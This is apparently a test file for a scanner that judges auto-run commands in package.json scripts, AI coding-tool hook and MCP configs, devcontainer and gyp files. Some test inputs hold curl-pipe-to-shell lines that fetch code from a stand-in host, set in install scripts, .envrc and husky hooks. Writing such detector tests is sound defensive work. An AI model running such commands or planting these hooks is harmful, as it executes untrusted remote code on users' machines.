import assert from 'node:assert/strict';
import { it } from 'node:test';
import { BytesSource } from '../src/bytes/byte-source.ts';
import { scanSource } from '../src/index.ts';

const told = async (name: string, content: string): Promise<string> => {
  const { verdict, detections } = await scanSource(name, new BytesSource(Buffer.from(content)));
  return [verdict, ...new Set(detections.map(({ technique }) => technique))].join(' ');
};

/** Where a command runs by itself. */
const places = (command: string): readonly (readonly [string, string])[] => {
  const text = JSON.stringify(command);
  const [first, ...rest] = command.split(' ');
  const asArgs = `{"command":${JSON.stringify(first)},"args":${JSON.stringify(rest)}}`;
  return [
    ['package.json', `{"scripts":{"preinstall":${text}}}`],
    ['package.json', `{"scripts":{"postinstall":"npm run setup","setup":${text}}}`],
    ['package.json', `{"scripts":{"prepare":"yarn presetup","setup":"x","presetup":${text}}}`],
    [
      '.claude/settings.json',
      `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":${text}}]}]}}`,
    ],
    ['.claude/settings.json', `{"statusLine":{"type":"command","command":${text}}}`],
    ['.cursor/hooks.json', `{"hooks":{"stop":[{"command":${text}}]}}`],
    ['.github/hooks/a.json', `{"version":1,"hooks":{"sessionStart":[{"type":"command","bash":${text}}]}}`],
    ['.mcp.json', `{"mcpServers":{"x":${asArgs}}}`],
    ['.vscode/mcp.json', `{"servers":{"x":${asArgs}}, /* comment */}`],
    ['tool.json', `{"mcpServers":{"x":${asArgs}}}`],
    [
      '.codex/config.toml',
      `[mcp_servers.x]\ncommand = ${JSON.stringify(first)}\nargs = ${JSON.stringify(rest)}\n`,
    ],
    ['.devcontainer.json', `{"initializeCommand": ${text}}`],
    ['binding.gyp', `{"targets": [{"sources": ["<!@(${command})"]}]}`],
  ];
};

it('what runs by itself and starts a program that is not read is told alike everywhere', async () => {
  for (const command of [
    'node setup_bun.js',
    'node bundle.js || true',
    'node .vscode/setup.mjs',
    'node .',
    'node --no-warnings scripts/build',
    'bun run setup.ts',
    'npx tsx scripts/x.ts',
    'deno run -A x.ts',
    'ruby x.rb',
    'node -r ./hook.js a.js',
    'perl tools/x.pl -e',
    'cd sub && node x.js',
    './tools/run.js --fast',
    'bash hooks/run',
    'java -jar tools/a.jar',
  ])
    for (const [name, text] of places(command))
      assert.equal(await told(name, text), 'review unread-program', `${name}: ${command}`);
  assert.equal(
    await told('package.json', JSON.stringify({ scripts: { install: `node -e "require('./x')()"` } })),
    'review unread-program',
  );
  const quiet = `node -e "try{require('./postinstall')}catch(e){}"`;
  assert.equal(
    await told('package.json', JSON.stringify({ scripts: { postinstall: quiet } })),
    'review unread-program',
  );
  assert.equal(
    await told('x.gyp', "{'actions': [{'action_name': 'a', 'action': ['node', 'make.js', '<(x)']}]}"),
    'review unread-program',
  );
});

it('and a script that another runs at installation is judged as it is', async () => {
  const scripts = { postinstall: 'npm run -s setup', setup: 'curl http://a.example/x | sh' };
  assert.equal(await told('package.json', JSON.stringify({ scripts })), 'suspicious notebook-shell');
});

it('what everyone has started is clean', async () => {
  for (const command of [
    'npx only-allow pnpm',
    'patch-package',
    'husky install',
    'npx prettier --write .',
    'npm run build --if-present',
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild',
    'node ./node_modules/esbuild/install.js',
    'npx -y @modelcontextprotocol/server-filesystem .',
    'uvx mcp-server-git --repository .',
    'docker run -i --rm ghcr.io/o/server',
    'python -m server',
    'python3 hooks/check.py',
    'bash .claude/hooks/format.sh',
    '$CLAUDE_PROJECT_DIR/.claude/hooks/format.sh',
    'node /usr/local/lib/server.js',
    'node ~/tools/server.js',
    'go mod download',
    'perl -pi -e s/a/b/ x.txt',
    'php -r copy("a","b.php");',
    'git status',
  ])
    for (const [name, text] of places(command))
      assert.equal(await told(name, text), 'clean', `${name}: ${command}`);
  const gyp = `{"targets":[{"include_dirs":["<!@(node -p \\"require('node-addon-api').include\\")", "<!(node -e \\"require('nan')\\")"]}]}`;
  assert.equal(await told('binding.gyp', gyp), 'clean');
  assert.equal(
    await told(
      'package.json',
      JSON.stringify({ scripts: { test: 'node test.js', build: 'node build.js', start: 'node .' } }),
    ),
    'clean',
  );
});

it('scripts that a tool of the checkout runs are read without a first line that says so', async () => {
  for (const name of ['.envrc', 'a/.envrc', '.husky/pre-commit', '.husky/post-checkout']) {
    assert.equal(
      await told(name, 'export A=1\ncurl https://a.example.com/x | sh\n'),
      'suspicious notebook-shell',
      name,
    );
    assert.equal(await told(name, 'npx lint-staged\nlayout python3\n'), 'clean', name);
  }
});
